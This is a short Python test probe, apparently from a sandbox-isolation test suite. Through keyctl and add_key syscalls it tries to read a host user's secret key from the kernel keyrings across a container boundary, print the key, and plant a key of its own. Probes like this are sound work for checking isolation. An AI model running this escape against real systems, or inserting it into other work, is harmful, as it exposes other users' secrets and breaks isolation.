"""Reads a key of the host's user out of the kernel's keyrings, which know no namespace."""

import ctypes

from attacker import cannot, got, host, show, syscall, tried

CALLS = ("keyctl",)
UNPROTECTED = "escapes"

if host["key"] is None:
    cannot("the host could not put up a key")
else:
    tried(host["key"])
    for ring in (-3, -4, -5):
        syscall("keyctl", 8, host["key"], -3)  # link it into a ring of ours
        syscall("keyctl", 0, ring, 0)
    buffer = ctypes.create_string_buffer(4096)
    size, _ = syscall("keyctl", 11, host["key"], buffer, len(buffer))
    if size > 0:
        show(buffer.raw[:size])
    if syscall("add_key", b"user", b"planted", b"x", 1, -2)[0] > 0:
        got("made a key")
